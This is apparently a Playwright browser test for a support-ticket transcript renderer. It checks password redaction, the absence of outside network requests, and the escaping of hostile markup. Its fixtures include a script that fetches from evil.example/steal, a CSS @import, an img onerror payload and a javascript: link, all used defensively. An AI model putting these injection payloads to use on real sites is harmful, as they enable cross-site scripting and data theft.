/**
 * The transcript as a person opens it: Debian's Chromium loads the file from disk, and the test
 * watches every request the page makes. The unit tests check the markup; only a real browser shows
 * that nothing in it fetches, runs or breaks (a CSP violation, for one, is logged as a console error).
 */
import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REDACTED } from '../../src/core/normalise/secrets.js';
import { renderTranscriptHtml, transcriptFileName, type TranscriptInput } from '../../src/core/tickets/transcript.js';

const CHROMIUM = '/usr/bin/chromium';
const haveChromium = existsSync(CHROMIUM);
const inCi = Boolean(process.env.CI);
// Locally a missing browser only skips; in CI it must fail, or a broken install step would pass unseen.
if (!haveChromium && !inCi) {
  console.warn(`transcript-browser: skipped, ${CHROMIUM} is missing (apt-get install -y chromium to run it)`);
}

const MIN = 60_000;
const OPENED = Date.UTC(2026, 0, 12, 8, 0);
const PNG_URL = 'https://cdn.discordapp.com/attachments/111/222/screenshot.png';
const LOG_URL = 'https://files.example.com/logs/app.log?download=1&v=2';

/** Markup that would fetch from outside if it were ever taken as markup rather than text. */
const HOSTILE =
  '<script>fetch("https://evil.example/steal")</script>' + '<style>@import url(https://evil.example/x.css)</style>';

const base = { authorIsStaff: false, authorIsBot: false, attachments: [], embeds: [] };
const ticket: TranscriptInput = {
  ticketNumber: 7,
  guildName: 'Acme Help',
  memberName: 'Jane "JD" O\'Neil',
  claimedByName: 'Sam',
  openedAt: OPENED,
  closedAt: OPENED + 125 * MIN,
  closeReason: 'solved: password reset worked',
  rating: 5,
  timeZone: 'Europe/Berlin',
  messages: [
    { ...base, authorName: 'Jane "JD" O\'Neil', at: OPENED, text: 'I cannot sign in.\nIt says "account locked".' },
    {
      ...base,
      authorName: 'Jane "JD" O\'Neil',
      at: OPENED + MIN,
      text: 'my password is Hunter2!xyz <img src=https://evil.example/pixel.png onerror=alert(1)>',
      attachments: [
        { name: 'screenshot.png', url: PNG_URL },
        { name: 'app.log', url: LOG_URL },
        { name: 'click-me', url: 'javascript:alert(document.domain)' },
      ],
    },
    {
      ...base,
      authorName: 'Sam',
      authorIsStaff: true,
      at: OPENED + 5 * MIN,
      text: HOSTILE,
    },
    {
      ...base,
      authorName: 'Stepwise',
      authorIsBot: true,
      at: OPENED + 125 * MIN,
      text: '',
      embeds: [{ title: 'Ticket closed', description: 'Closed by Sam', fields: [{ name: 'Reason', value: 'solved' }] }],
    },
  ],
};

/** What a reader must see of each message, after redaction. */
const VISIBLE = [
  'I cannot sign in.\nIt says "account locked".',
  `my password is ${REDACTED} <img src=https://evil.example/pixel.png onerror=alert(1)>`,
  'screenshot.png',
  'app.log',
  'click-me',
  HOSTILE,
  'Ticket closed',
  'Closed by Sam',
  'Reason',
];

describe.skipIf(!haveChromium && !inCi)('transcript in Debian Chromium (file:// page, every request recorded)', () => {
  let browser: Browser;
  let dir: string;
  let fileUrl: string;
  let page: Page;
  const requests: string[] = [];
  const consoleErrors: string[] = [];

  beforeAll(async () => {
    if (!haveChromium) {
      throw new Error(`${CHROMIUM} is missing: .ci/run installs Debian's chromium package; CI must not skip this test`);
    }
    dir = await mkdtemp(join(tmpdir(), 'stepwise-transcript-'));
    const file = join(dir, transcriptFileName(ticket.ticketNumber));
    await writeFile(file, renderTranscriptHtml(ticket), 'utf8');
    fileUrl = pathToFileURL(file).href;
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    page = await browser.newPage();
    page.on('request', (r) => requests.push(r.url()));
    page.on('console', (m) => {
      if (m.type() === 'error') consoleErrors.push(m.text());
    });
    page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
    // networkidle: anything the page would fetch (styles, images, fonts) has been asked for by then.
    await page.goto(fileUrl, { waitUntil: 'networkidle' });
  });

  afterAll(async () => {
    await browser?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('ticket #7 renders: title "Ticket #7 · Acme Help" and every message text visible in innerText', async () => {
    expect(await page.title()).toBe('Ticket #7 · Acme Help');
    // biome-ignore lint/performance/useDomNodeTextContent: Playwright's innerText (rendered text), not the DOM property
    const body = await page.innerText('body');
    for (const text of VISIBLE) expect(body).toContain(text);
    expect(body).toContain('Jane "JD" O\'Neil');
    expect(body).toContain('Open for\n2 h 5 min');
    expect(body).toContain('2026-01-12 09:00'); // 08:00Z in Berlin (UTC+1 in January)
    expect(body).toContain('★★★★★ (5/5)');
  });

  it('the pasted "my password is Hunter2!xyz" is nowhere in the rendered page', async () => {
    // biome-ignore lint/performance/useDomNodeTextContent: Playwright's innerText (rendered text), not the DOM property
    expect(await page.innerText('body')).not.toContain('Hunter2');
    expect(await page.content()).not.toContain('Hunter2');
  });

  it('no network request but the document itself (hostile <img>, <script>, @import in messages)', async () => {
    expect(requests).toEqual([fileUrl]);
  });

  it('no console errors (no CSP violation, no script error)', async () => {
    expect(consoleErrors).toEqual([]);
  });

  it('the DOM has no <img>/<script>/<link>, links are only the two https attachments', async () => {
    expect(await page.locator('img, script, link, iframe, object, embed').count()).toBe(0);
    const hrefs = await page.$$eval('a', (as) => as.map((a) => (a as HTMLAnchorElement).href));
    expect(hrefs).toEqual([PNG_URL, LOG_URL]);
  });

  it('the inline style applies under the CSP: message text keeps line breaks (white-space: pre-wrap)', async () => {
    const whiteSpace = await page.$eval('.text', (el) => getComputedStyle(el).whiteSpace);
    expect(whiteSpace).toBe('pre-wrap');
  });
});
